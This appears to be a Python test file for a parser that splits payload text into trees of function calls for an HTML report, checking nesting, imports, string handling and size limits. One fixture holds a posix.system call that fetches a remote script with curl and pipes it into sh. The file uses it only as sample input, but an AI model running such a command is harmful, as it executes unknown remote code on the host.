"""Payloads as trees of calls."""

from __future__ import annotations

import pytest
from fuzzing import effort
from hypothesis import given
from hypothesis import strategies as st

from aiverify.reporters.html.outline import MAX_CALLS, MAX_DEPTH, Call, calls


def names(found: list[Call]) -> list[object]:
    """The names of calls, each with those inside it."""
    return [(call.name, names(call.calls)) if call.calls else call.name for call in found]


def size_of(found: list[Call]) -> int:
    return sum(1 + size_of(call.calls) for call in found)


def depth_of(found: list[Call]) -> int:
    return max((1 + depth_of(call.calls) for call in found), default=0)


def test_a_call_is_given_values() -> None:
    (call,) = calls("posix.system('curl -s https://host/x.sh | sh')")

    assert (call.name, call.values, call.calls) == ("posix.system", ["'curl -s https://host/x.sh | sh'"], [])


def test_calls_inside_a_call_stand_under_it() -> None:
    assert names(calls("a.b(c.d(1), [e(2), {'k': f.g()}], h)")) == [("a.b", ["c.d", "e", "f.g"])]


def test_each_line_is_a_call() -> None:
    assert names(calls("a(1)\n# … and 3 more calls\nb(2)")) == ["a", "b"]


def test_an_import_is_no_call() -> None:
    (call,) = calls("from posix import system")

    assert (call.name, call.called) == ("posix.system", False)


def test_a_new_object_is_of_its_class() -> None:
    (call,) = calls("x.Y.__new__(1).__setstate__({'a': 2})")

    assert call.target == "x.Y"


@pytest.mark.parametrize(
    "text", [r"'os.system(1)'", r"'\'os.system(1)'", '"os.system(1)"', "b'os.system(1)'", "'os.f("]
)
def test_what_stands_in_a_string_is_no_call(text: str) -> None:
    (call,) = calls(f"print({text})")

    assert not call.calls


def test_calls_without_end_are_cut() -> None:
    assert size_of(calls("f(1)\n" * 10_000)) == MAX_CALLS
    assert depth_of(calls("f(" * 10_000)) <= MAX_DEPTH


_PARTS = [
    "f(",
    "a.b(",
    ".c(",
    ")",
    "]",
    "[",
    "'",
    '"',
    "\\",
    ",",
    " ",
    "\n",
    "from ",
    " import ",
    "#",
    "é",
    "<3 bytes>",
]


@effort(300)
@given(st.lists(st.sampled_from(_PARTS)))
def test_anything_is_a_payload(parts: list[str]) -> None:
    found = calls("".join(parts))

    assert size_of(found) <= MAX_CALLS
    assert depth_of(found) <= MAX_DEPTH
